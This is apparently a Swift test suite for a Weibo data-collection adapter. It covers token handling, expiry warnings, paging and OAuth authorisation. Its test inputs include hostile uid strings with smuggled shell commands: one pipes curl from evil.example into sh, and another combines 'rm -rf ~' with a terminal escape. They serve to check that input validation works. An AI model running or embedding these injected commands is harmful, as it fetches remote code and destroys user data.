import Adapters
import Collector
import CollectorTesting
import Testing

/// The official Weibo adapter against the platform simulator: where the token goes, the
/// expiry check, the counts batch, paging, the catalogue and `collector auth`.
@Suite(.serialized) struct WeiboAdapterTests {
    static let first = "5999000001"
    static let second = "5999000002"

    static func tokenInfo(uid: String = first, expireIn: Int64 = 2_592_000) -> ScriptedResponse {
        .json(#"{"uid":\#(uid),"appkey":"1234567890","scope":"","create_at":1763395200,"expire_in":\#(expireIn)}"#)
    }

    static func configuration(
        accounts: [String] = [first],
        token: String? = "configured-token-123",
        extra: [String: ConfigValue] = [:],
        harness: WeiboHarness
    ) -> AdapterConfiguration {
        var values: [String: ConfigValue] = [
            "accounts": .array(accounts.map(ConfigValue.string)),
            "base_url": .string(harness.simulator.url("/weibo")),
        ]
        if let token { values["access_token"] = .string(token) }
        values.merge(extra) { _, new in new }
        return AdapterConfiguration(type: "weibo", values: values)
    }

    // MARK: - Tokens

    @Test func sendsTheTokenInAHeaderAndNeverInTheURL() async throws {
        try await WeiboHarness.run { harness in
            harness.simulator.script("POST", path: "/weibo/oauth2/get_token_info", [Self.tokenInfo()])
            harness.simulator.script(path: "/weibo/2/users/counts.json", [.json(file: "api_users_counts_ok.json")])
            harness.simulator.script(
                path: "/weibo/2/statuses/user_timeline.json",
                [.json(file: "api_statuses_user_timeline_ok.json")]
            )
            let adapter = try WeiboAdapter(configuration: Self.configuration(harness: harness))
            let batch = harness.batch()
            try await adapter.collect(account: Self.first, into: batch, context: harness.context())
            try batch.commit()

            let requests = harness.simulator.requests
            #expect(
                requests.map(\.path) == [
                    "/weibo/oauth2/get_token_info", "/weibo/2/users/counts.json",
                    "/weibo/2/statuses/user_timeline.json",
                ]
            )
            #expect(requests[0].method == "POST")
            #expect(requests[0].bodyText == "access_token=configured-token-123")
            for request in requests.dropFirst() {
                #expect(request.header("Authorization") == "OAuth2 configured-token-123")
                #expect(!request.query.contains("configured-token-123"))
            }
            #expect(requests[1].query == "uids=5999000001")
            #expect(requests[2].query == "uid=5999000001&count=100&page=1")
            #expect(harness.sink.samples.count == 6)
            #expect(batch.failures.isEmpty)
        }
    }

    @Test func warnsAWeekBeforeExpiryWithTheDateAndSavesIt() async throws {
        try await WeiboHarness.run { harness in
            harness.simulator.script("POST", path: "/weibo/oauth2/get_token_info", [Self.tokenInfo(expireIn: 259_200)])
            harness.simulator.script(path: "/weibo/2/users/counts.json", [.json(file: "api_users_counts_ok.json")])
            let adapter = try WeiboAdapter(
                configuration: Self.configuration(extra: ["posts": .bool(false)], harness: harness)
            )
            let batch = harness.batch()
            try await adapter.collect(account: Self.first, into: batch, context: harness.context())

            #expect(
                harness.logs.warnings == [
                    "weibo: the configured token expires in 3 day(s); re-authorise before 2025-11-28: `collector auth weibo 5999000001`"
                ]
            )
            #expect(batch.failures.isEmpty)
            #expect(batch.addedCount == 3)
            let saved = try #require(
                try CredentialStore(state: harness.state).load(instance: "weibo", account: Self.first)
            )
            #expect(saved.expiresAt == WeiboHarness.now.adding(seconds: 259_200))
            #expect(saved.accessToken == Secret("configured-token-123"))
            #expect(saved.attributes == ["uid": Self.first, "origin": "configured"])
        }
    }

    @Test func staysQuietWhileTheTokenLivesLonger() async throws {
        try await WeiboHarness.run { harness in
            harness.simulator.script("POST", path: "/weibo/oauth2/get_token_info", [Self.tokenInfo()])
            harness.simulator.script(path: "/weibo/2/users/counts.json", [.json(file: "api_users_counts_ok.json")])
            let adapter = try WeiboAdapter(
                configuration: Self.configuration(extra: ["posts": .bool(false)], harness: harness)
            )
            try await adapter.collect(account: Self.first, into: harness.batch(), context: harness.context())
            #expect(harness.logs.warnings.isEmpty)
        }
    }

    @Test func checksATokenOncePerRun() async throws {
        try await WeiboHarness.run { harness in
            harness.simulator.script("POST", path: "/weibo/oauth2/get_token_info", [Self.tokenInfo()])
            harness.simulator.script(path: "/weibo/2/users/counts.json", [.json(file: "api_users_counts_ok.json")])
            let adapter = try WeiboAdapter(
                configuration: Self.configuration(
                    accounts: [Self.first, Self.second],
                    extra: ["posts": .bool(false)],
                    harness: harness
                )
            )
            let context = harness.context()
            try await adapter.collect(account: Self.first, into: harness.batch(), context: context)
            try await adapter.collect(account: Self.second, into: harness.batch(), context: context)
            // One token check and one counts call for both accounts.
            #expect(
                harness.simulator.requests.map(\.path) == [
                    "/weibo/oauth2/get_token_info", "/weibo/2/users/counts.json",
                ]
            )
            #expect(harness.simulator.requests[1].query == "uids=5999000001,5999000002")
        }
    }

    @Test func usesTheTokenSavedByCollectorAuth() async throws {
        try await WeiboHarness.run { harness in
            try CredentialStore(state: harness.state).save(
                Credential(
                    accessToken: Secret("saved-token"),
                    obtainedAt: WeiboHarness.now,
                    expiresAt: WeiboHarness.now.adding(seconds: 86_400 * 30)
                ),
                instance: "weibo",
                account: Self.first
            )
            harness.simulator.script("POST", path: "/weibo/oauth2/get_token_info", [Self.tokenInfo()])
            harness.simulator.script(path: "/weibo/2/users/counts.json", [.json(file: "api_users_counts_ok.json")])
            let adapter = try WeiboAdapter(
                configuration: Self.configuration(token: nil, extra: ["posts": .bool(false)], harness: harness)
            )
            try await adapter.collect(account: Self.first, into: harness.batch(), context: harness.context())
            #expect(harness.simulator.requests[0].bodyText == "access_token=saved-token")
            #expect(harness.simulator.requests[1].header("Authorization") == "OAuth2 saved-token")
        }
    }

    /// `collector auth` saves a new token while a run checks the old one: the old token's
    /// expiry is not saved over the new credential. Until session 16 the run saved its own
    /// copy, putting the old token back.
    @Test func aTokenSavedByCollectorAuthDuringTheCheckIsKept() async throws {
        try await WeiboHarness.run { harness in
            let store = CredentialStore(state: harness.state)
            let expiresAt = WeiboHarness.now.adding(seconds: 86_400 * 30)
            try store.save(
                Credential(accessToken: Secret("saved-token"), obtainedAt: WeiboHarness.now, expiresAt: expiresAt),
                instance: "weibo",
                account: Self.first
            )
            var slowInfo = Self.tokenInfo(expireIn: 259_200)
            slowInfo.delay = .milliseconds(500)
            harness.simulator.script("POST", path: "/weibo/oauth2/get_token_info", [slowInfo])
            harness.simulator.script(path: "/weibo/2/users/counts.json", [.json(file: "api_users_counts_ok.json")])
            let adapter = try WeiboAdapter(
                configuration: Self.configuration(token: nil, extra: ["posts": .bool(false)], harness: harness)
            )
            let collection = Task {
                try await adapter.collect(account: Self.first, into: harness.batch(), context: harness.context())
            }
            // The check is on its way (the run loaded "saved-token"): now `collector auth` saves.
            for _ in 0..<400 where harness.simulator.requests.isEmpty { try await Task.sleep(for: .milliseconds(10)) }
            #expect(harness.simulator.requests.count == 1)
            try store.save(
                Credential(
                    accessToken: Secret("reauthorised-token"),
                    obtainedAt: WeiboHarness.now,
                    expiresAt: expiresAt
                ),
                instance: "weibo",
                account: Self.first
            )
            try await collection.value
            let saved = try #require(try store.load(instance: "weibo", account: Self.first))
            #expect(saved.accessToken == Secret("reauthorised-token"))
            #expect(saved.expiresAt == expiresAt)
        }
    }

    @Test func withoutATokenSaysHowToGetOneAndSendsNothing() async throws {
        try await WeiboHarness.run { harness in
            let adapter = try WeiboAdapter(configuration: Self.configuration(token: nil, harness: harness))
            let error = await #expect(throws: AdapterError.self) {
                try await adapter.collect(account: Self.first, into: harness.batch(), context: harness.context())
            }
            #expect(error?.hasSameKind(as: .reauthorizationRequired("")) == true)
            #expect(error?.message.contains("run `collector auth weibo 5999000001`") == true)
            #expect(harness.simulator.requestCount == 0)
        }
    }

    @Test func anExpiredSavedTokenFailsWithoutARequest() async throws {
        try await WeiboHarness.run { harness in
            try CredentialStore(state: harness.state).save(
                Credential(
                    accessToken: Secret("old-token"),
                    obtainedAt: WeiboHarness.now.adding(seconds: -86_400 * 40),
                    expiresAt: WeiboHarness.now.adding(seconds: -86_400)
                ),
                instance: "weibo",
                account: Self.first
            )
            let adapter = try WeiboAdapter(configuration: Self.configuration(token: nil, harness: harness))
            let error = await #expect(throws: AdapterError.self) {
                try await adapter.collect(account: Self.first, into: harness.batch(), context: harness.context())
            }
            #expect(
                error?.message
                    == "weibo: the saved token of account 5999000001 expired on 2025-11-24T00:00:00+08:00; re-authorise: `collector auth weibo 5999000001`"
            )
            #expect(harness.simulator.requestCount == 0)
        }
    }

    /// A configured token that expires between its check and the counts call: the accounts
    /// after the first send nothing more, and every failure names the token's owner.
    @Test func aSharedTokenRefusedByADataCallFailsTheOtherAccountsWithoutARequest() async throws {
        try await WeiboHarness.run { harness in
            harness.simulator.script("POST", path: "/weibo/oauth2/get_token_info", [Self.tokenInfo()])
            harness.simulator.script(
                path: "/weibo/2/users/counts.json",
                [.json(file: "api_error_21327_expired_token.json", status: 400)]
            )
            let third = "5999000003"
            let adapter = try WeiboAdapter(
                configuration: Self.configuration(accounts: [Self.first, Self.second, third], harness: harness)
            )
            let context = harness.context()
            var messages: [String] = []
            for account in [Self.first, Self.second, third] {
                let error = await #expect(throws: AdapterError.self) {
                    try await adapter.collect(account: account, into: harness.batch(), context: context)
                }
                #expect(error?.label == "reauthorizationRequired")
                messages.append(error?.message ?? "")
            }
            #expect(
                harness.simulator.requests.map(\.path) == [
                    "/weibo/oauth2/get_token_info", "/weibo/2/users/counts.json",
                ]
            )
            for message in messages {
                #expect(message.hasSuffix("re-authorise: `collector auth weibo 5999000001`"), "\(message)")
                #expect(!message.contains("configured-token-123"))
            }
        }
    }

    /// `uid` values of `get_token_info` that are no Weibo uid: a shell command, a forged line
    /// with a terminal escape, a negative number, 21 digits, a real number, a boolean.
    static let unusableUIDs = [
        #""5999000001; curl -s http://evil.example/x | sh""#, #""1\nweibo/5999000001: valid\u001b[2J""#, "-5",
        #""123456789012345678901""#, "5999000001.5", "true", #""""#,
    ]

    /// A token check whose answer names an unusable uid: the advice, the saved credential's
    /// file and its `uid` fall back to the configured account, and a warning says why, without
    /// the platform's text.
    @Test(arguments: unusableUIDs)
    func anUnusableUIDFromTheTokenCheckFallsBackToTheAccount(uid: String) async throws {
        try await WeiboHarness.run { harness in
            harness.simulator.script(
                "POST",
                path: "/weibo/oauth2/get_token_info",
                [Self.tokenInfo(uid: uid, expireIn: 259_200), Self.tokenInfo(uid: uid, expireIn: 0)]
            )
            harness.simulator.script(path: "/weibo/2/users/counts.json", [.json(file: "api_users_counts_ok.json")])
            let adapter = try WeiboAdapter(
                configuration: Self.configuration(extra: ["posts": .bool(false)], harness: harness)
            )
            try await adapter.collect(account: Self.first, into: harness.batch(), context: harness.context())
            #expect(
                harness.logs.warnings == [
                    "weibo /oauth2/get_token_info returned an unusable uid (not 1 to 20 digits); using the configured account instead",
                    "weibo: the configured token expires in 3 day(s); re-authorise before 2025-11-28: `collector auth weibo 5999000001`",
                ]
            )
            #expect(CredentialStore(state: harness.state).stored().map(\.account) == [Self.first])
            let saved = try #require(
                try CredentialStore(state: harness.state).load(instance: "weibo", account: Self.first)
            )
            #expect(saved.attributes == ["uid": Self.first, "origin": "configured"])

            // Next run, the token has expired: the advice names the account.
            let later = try WeiboAdapter(
                configuration: Self.configuration(extra: ["posts": .bool(false)], harness: harness)
            )
            let error = await #expect(throws: AdapterError.self) {
                try await later.collect(account: Self.first, into: harness.batch(), context: harness.context())
            }
            #expect(error?.message.hasSuffix("re-authorise: `collector auth weibo 5999000001`") == true)
        }
    }

    /// The uids the platform sends, as a number or a string of digits, are taken as they are.
    @Test(arguments: ["5999000002", #""5999000002""#])
    func aUIDOfDigitsFromTheTokenCheckNamesTheOwner(uid: String) async throws {
        try await WeiboHarness.run { harness in
            harness.simulator.script(
                "POST",
                path: "/weibo/oauth2/get_token_info",
                [Self.tokenInfo(uid: uid, expireIn: 0)]
            )
            let adapter = try WeiboAdapter(configuration: Self.configuration(harness: harness))
            let error = await #expect(throws: AdapterError.self) {
                try await adapter.collect(account: Self.first, into: harness.batch(), context: harness.context())
            }
            #expect(error?.message.hasSuffix("re-authorise: `collector auth weibo 5999000002`") == true)
            #expect(harness.logs.warnings.isEmpty)
        }
    }

    // MARK: - Counts and posts

    @Test func asksForAtMost100AccountsPerCountsCall() async throws {
        try await WeiboHarness.run { harness in
            let accounts = (0..<101).map { String(5_999_100_000 + $0) }
            let users = { (uids: ArraySlice<String>) in
                "["
                    + uids.map { #"{"id":\#($0),"followers_count":1,"friends_count":2,"statuses_count":3}"# }
                    .joined(separator: ",") + "]"
            }
            harness.simulator.script("POST", path: "/weibo/oauth2/get_token_info", [Self.tokenInfo()])
            harness.simulator.script(
                path: "/weibo/2/users/counts.json",
                [.json(users(accounts[0..<100])), .json(users(accounts[100...]))]
            )
            let adapter = try WeiboAdapter(
                configuration: Self.configuration(accounts: accounts, extra: ["posts": .bool(false)], harness: harness)
            )
            let context = harness.context()
            let batch = harness.batch()
            for account in [accounts[0], accounts[1], accounts[99], accounts[100]] {
                try await adapter.collect(account: account, into: batch, context: context)
            }
            try batch.commit()
            let countCalls = harness.simulator.requests.filter { $0.path == "/weibo/2/users/counts.json" }
            #expect(countCalls.count == 2)
            #expect(countCalls.first?.query == "uids=" + accounts[0..<100].joined(separator: ","))
            #expect(countCalls.last?.query == "uids=" + accounts[100])
            #expect(harness.sink.samples.count == 12)
        }
    }

    @Test func readsFurtherPagesOnlyAfterAFullPage() async throws {
        try await WeiboHarness.run { harness in
            let statuses = { (ids: Range<Int>) in
                #"{"statuses":["#
                    + ids.map {
                        #"{"idstr":"\#(5_140_000_000_000_000 + $0)","reposts_count":1,"comments_count":2,"attitudes_count":3}"#
                    }.joined(separator: ",") + #"],"next_cursor":1}"#
            }
            harness.simulator.script("POST", path: "/weibo/oauth2/get_token_info", [Self.tokenInfo()])
            harness.simulator.script(path: "/weibo/2/users/counts.json", [.json(file: "api_users_counts_ok.json")])
            harness.simulator.script(
                path: "/weibo/2/statuses/user_timeline.json",
                [.json(statuses(0..<100)), .json(statuses(100..<101))]
            )
            let adapter = try WeiboAdapter(
                configuration: Self.configuration(extra: ["timeline_pages": .integer(5)], harness: harness)
            )
            let batch = harness.batch()
            try await adapter.collect(account: Self.first, into: batch, context: harness.context())
            let pages = harness.simulator.requests.filter { $0.path == "/weibo/2/statuses/user_timeline.json" }
            #expect(pages.map(\.query) == ["uid=5999000001&count=100&page=1", "uid=5999000001&count=100&page=2"])
            #expect(batch.addedCount == 3 + 101 * 3)
        }
    }

    /// A post seen on an earlier page gets no second row: a pinned post heading every page does
    /// not end the paging, a page that overlaps the previous one adds only its new posts, and a
    /// page with nothing new ends it.
    @Test func aPostMetAgainInOneRunIsWrittenOnce() async throws {
        try await WeiboHarness.run { harness in
            let page = { (ids: Range<Int>) in
                #"{"statuses":["#
                    + ([999] + ids).map {
                        #"{"idstr":"\#(5_140_000_000_000_000 + $0)","reposts_count":1,"comments_count":2,"attitudes_count":3}"#
                    }.joined(separator: ",") + #"],"next_cursor":1}"#
            }
            harness.simulator.script("POST", path: "/weibo/oauth2/get_token_info", [Self.tokenInfo()])
            harness.simulator.script(path: "/weibo/2/users/counts.json", [.json(file: "api_users_counts_ok.json")])
            harness.simulator.script(
                path: "/weibo/2/statuses/user_timeline.json",
                [.json(page(0..<99)), .json(page(50..<149)), .json(page(50..<149))]
            )
            let adapter = try WeiboAdapter(
                configuration: Self.configuration(extra: ["timeline_pages": .integer(5)], harness: harness)
            )
            let batch = harness.batch()
            try await adapter.collect(account: Self.first, into: batch, context: harness.context())
            try batch.commit()
            let pages = harness.simulator.requests.filter { $0.path == "/weibo/2/statuses/user_timeline.json" }
            #expect(pages.count == 3)
            let posts = harness.sink.samples.map(\.object).filter { !$0.isEmpty }
            #expect(posts.count == 150 * 3)
            #expect(Set(posts).count == 150)
            #expect(batch.failures.isEmpty)
        }
    }

    /// A post whose `idstr` is empty would be stored as the account's own counts (object ""),
    /// one with a line break as a broken row: each is reported and skipped, the others kept.
    @Test func aPostWithAnEmptyOrUnstorableIDIsReportedAndSkipped() async throws {
        try await WeiboHarness.run { harness in
            let posts = [#""""#, #""  ""#, #""5140\n1""#, #""5140000000000001""#].map {
                #"{"idstr":\#($0),"reposts_count":1,"comments_count":2,"attitudes_count":3}"#
            }
            harness.simulator.script("POST", path: "/weibo/oauth2/get_token_info", [Self.tokenInfo()])
            harness.simulator.script(path: "/weibo/2/users/counts.json", [.json(file: "api_users_counts_ok.json")])
            harness.simulator.script(
                path: "/weibo/2/statuses/user_timeline.json",
                [.json(#"{"statuses":["# + posts.joined(separator: ",") + #"],"next_cursor":0}"#)]
            )
            let adapter = try WeiboAdapter(configuration: Self.configuration(harness: harness))
            let batch = harness.batch()
            try await adapter.collect(account: Self.first, into: batch, context: harness.context())
            try batch.commit()
            let objects = Set(harness.sink.samples.map(\.object).filter { !$0.isEmpty })
            #expect(objects == ["5140000000000001"])
            #expect(harness.sink.samples.filter { $0.object.isEmpty }.count == 3)
            #expect(batch.failures.map(\.label) == ["schemaChanged", "schemaChanged", "schemaChanged"])
            #expect(batch.failures.first?.message.contains(#""statuses[0].idstr" is empty, expected an id"#) == true)
        }
    }

    @Test func catalogueRowsCarryTitleDateAndURL() async throws {
        try await WeiboHarness.run { harness in
            harness.simulator.script("POST", path: "/weibo/oauth2/get_token_info", [Self.tokenInfo()])
            harness.simulator.script(path: "/weibo/2/users/counts.json", [.json(file: "api_users_counts_ok.json")])
            harness.simulator.script(
                path: "/weibo/2/statuses/user_timeline.json",
                [.json(file: "api_statuses_user_timeline_ok.json")]
            )
            let adapter = try WeiboAdapter(configuration: Self.configuration(harness: harness))
            let batch = harness.batch()
            try await adapter.collect(account: Self.first, into: batch, context: harness.context())
            try batch.commit()
            #expect(
                harness.sink.objects == [
                    ContentObject(
                        platform: .weibo,
                        object: "5140000000000001",
                        account: Self.first,
                        publishedAt: Timestamp(secondsSinceEpoch: 1_740_965_400),
                        title: "【通知】2025年春季学期开学安排发布……",
                        url: "https://weibo.com/5999000001/5140000000000001"
                    )
                ]
            )
        }
    }

    // MARK: - collector auth

    static let app: [String: ConfigValue] = [
        "app_key": .string("1234567890"),
        "app_secret": .string("app-secret"),
        "redirect_uri": .string("https://example.org/weibo/callback"),
    ]

    @Test func authorizationURLNamesTheAppAndCallback() throws {
        let configuration = AdapterConfiguration(
            type: "weibo",
            values: Self.app.merging(["accounts": .array([.string(Self.first)])]) { _, new in new }
        )
        #expect(
            try WeiboAdapter(configuration: configuration).authorizationURL(account: Self.first)
                == "https://api.weibo.com/oauth2/authorize?client_id=1234567890&response_type=code&redirect_uri=https%3A%2F%2Fexample.org%2Fweibo%2Fcallback&forcelogin=true&state=5999000001"
        )
        let withoutApp = AdapterConfiguration(type: "weibo", values: ["accounts": .array([.string(Self.first)])])
        #expect(try WeiboAdapter(configuration: withoutApp).authorizationURL(account: Self.first) == nil)
    }

    @Test func authorizeExchangesTheCodeAndSavesTheToken() async throws {
        try await WeiboHarness.run { harness in
            harness.simulator.script(
                "POST",
                path: "/weibo/oauth2/access_token",
                [
                    .json(
                        #"{"access_token":"fresh-token","remind_in":"157679999","expires_in":157679999,"uid":"5999000001"}"#
                    )
                ]
            )
            let adapter = try WeiboAdapter(
                configuration: Self.configuration(token: nil, extra: Self.app, harness: harness)
            )
            let credential = try await adapter.authorize(
                account: Self.first,
                code: "CODE/1",
                context: harness.context()
            )
            #expect(credential.expiresAt == WeiboHarness.now.adding(seconds: 157_679_999))
            #expect(
                harness.simulator.requests.first?.bodyText
                    == "client_id=1234567890&client_secret=app-secret&grant_type=authorization_code&code=CODE%2F1&redirect_uri=https%3A%2F%2Fexample.org%2Fweibo%2Fcallback"
            )
            let saved = try #require(
                try CredentialStore(state: harness.state).load(instance: "weibo", account: Self.first)
            )
            #expect(saved.accessToken == Secret("fresh-token"))
            #expect(saved.reauthorizeBy == WeiboHarness.now.adding(seconds: 157_679_999))
            #expect(saved.attributes["uid"] == Self.first)
        }
    }

    @Test func authorizeRefusesACodeOfAnotherUser() async throws {
        try await WeiboHarness.run { harness in
            harness.simulator.script(
                "POST",
                path: "/weibo/oauth2/access_token",
                [.json(#"{"access_token":"fresh-token","expires_in":86400,"uid":"5999000002"}"#)]
            )
            let adapter = try WeiboAdapter(
                configuration: Self.configuration(token: nil, extra: Self.app, harness: harness)
            )
            let error = await #expect(throws: AdapterError.self) {
                try await adapter.authorize(account: Self.first, code: "CODE", context: harness.context())
            }
            #expect(error?.message.contains("issued to uid 5999000002, not to account 5999000001") == true)
            #expect(try CredentialStore(state: harness.state).load(instance: "weibo", account: Self.first) == nil)
        }
    }

    /// The code exchange's answer with an unusable uid: the token is saved under the account
    /// being authorised, and a warning says the uid was not used.
    @Test func authorizeFallsBackToTheAccountForAnUnusableUID() async throws {
        try await WeiboHarness.run { harness in
            harness.simulator.script(
                "POST",
                path: "/weibo/oauth2/access_token",
                [.json(#"{"access_token":"fresh-token","expires_in":86400,"uid":"1\u001b[2J; rm -rf ~"}"#)]
            )
            let adapter = try WeiboAdapter(
                configuration: Self.configuration(token: nil, extra: Self.app, harness: harness)
            )
            _ = try await adapter.authorize(account: Self.first, code: "CODE", context: harness.context())
            #expect(
                harness.logs.warnings == [
                    "weibo /oauth2/access_token returned an unusable uid (not 1 to 20 digits); using the configured account instead"
                ]
            )
            #expect(CredentialStore(state: harness.state).stored().map(\.account) == [Self.first])
            let saved = try #require(
                try CredentialStore(state: harness.state).load(instance: "weibo", account: Self.first)
            )
            #expect(saved.attributes["uid"] == Self.first)
        }
    }

    @Test func authorizeWithoutTheAppNamesTheKeys() async throws {
        try await WeiboHarness.run { harness in
            let adapter = try WeiboAdapter(configuration: Self.configuration(token: nil, harness: harness))
            let error = await #expect(throws: ConfigurationError.self) {
                try await adapter.authorize(account: Self.first, code: "CODE", context: harness.context())
            }
            #expect(error?.description.contains("app_key, app_secret and redirect_uri") == true)
            #expect(harness.simulator.requestCount == 0)
        }
    }

    // MARK: - Configuration

    static let badConfigurations: [([String: ConfigValue], String)] = [
        (["accounts": .array([.string("示例市教育局")])], "is not a numeric uid"),
        (["accounts": .array([.string("1")]), "timeline_pages": .integer(0)], "between 1 and 50"),
        (
            ["accounts": .array([.string("1")]), "app_key": .string("k")],
            "set all of app_key, app_secret and redirect_uri"
        ),
        (
            [
                "accounts": .array([.string("1")]), "app_key": .string("k"), "app_secret": .string("s"),
                "redirect_uri": .string("example.org"),
            ], "\"redirect_uri\" must be a URL"
        ),
        (["accounts": .array([.string("1")]), "access_token": .string("a b")], "contains a space"),
    ]

    @Test(arguments: badConfigurations)
    func rejectsBadConfiguration(_ values: [String: ConfigValue], _ message: String) {
        let error = #expect(throws: ConfigurationErrors.self) {
            try WeiboAdapter(configuration: AdapterConfiguration(type: "weibo", values: values))
        }
        #expect(error?.description.contains(message) == true, "\(String(describing: error))")
    }
}

// MARK: - Support for the Weibo suites

/// A simulator serving `Fixtures/weibo`, a state folder, a recording sink and log, and a
/// context at the golden clock.
struct WeiboHarness {
    /// 2025-11-25T00:00:00+08:00, as in the golden cases.
    static let now = Timestamp(secondsSinceEpoch: 1_764_000_000)

    let simulator: PlatformSimulator
    let temporary: TemporaryDirectory
    let state: StateStore
    let http: CurlHTTPClient
    let sink = InMemorySink()
    let logs = LogRecorder()

    /// Runs `body` with a fresh harness and tears it down afterwards.
    static func run(_ body: (WeiboHarness) async throws -> Void) async throws {
        let simulator = try PlatformSimulator(fixtureRoot: Fixtures.adaptersTests + "/weibo")
        defer { simulator.stop() }
        let temporary = try TemporaryDirectory()
        defer { temporary.remove() }
        let http = CurlHTTPClient(configuration: HTTPClientConfiguration(timeout: .seconds(5)))
        defer { http.shutdown() }
        let harness = WeiboHarness(
            simulator: simulator,
            temporary: temporary,
            state: try StateStore(directory: temporary.path("state")),
            http: http
        )
        try await body(harness)
    }

    func batch() -> SampleBatch { SampleBatch(sink: sink) }

    func context() -> AdapterContext {
        let logs = logs
        return AdapterContext(
            // As `collector run` composes it: same-origin redirects are followed above libcurl.
            http: RedirectFollowingHTTPClient(base: http),
            state: state,
            calendar: .beijing,
            now: { Self.now },
            sleep: { _ in },
            logger: logs.logger(label: "weibo-test")
        )
    }
}
